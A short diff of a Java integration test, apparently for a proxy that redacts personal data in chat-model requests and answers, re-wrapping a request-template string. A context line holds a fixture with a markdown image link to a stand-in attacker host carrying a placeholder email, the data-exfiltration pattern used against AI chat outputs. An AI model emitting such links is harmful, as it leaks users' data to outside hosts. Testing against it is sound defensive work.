@@ -26,7 +26,8 @@ class AnswersIntegrationTest {
           + IBAN
           + ". ![x](https://evil.example/?q=[EMAIL-1]) [y](https://crm.example.net/[EMAIL-1])";
   private static final String PROMPT =
-      "{\"model\":\"gpt-demo\",\"stream\":%s,\"messages\":[{\"role\":\"user\",\"content\":\"Write to "
+      "{\"model\":\"gpt-demo\",\"stream\":%s,\"messages\":[{\"role\":\"user\",\"content\":"
+          + "\"Write to "
           + MAIL
           + "\"}]}";
 
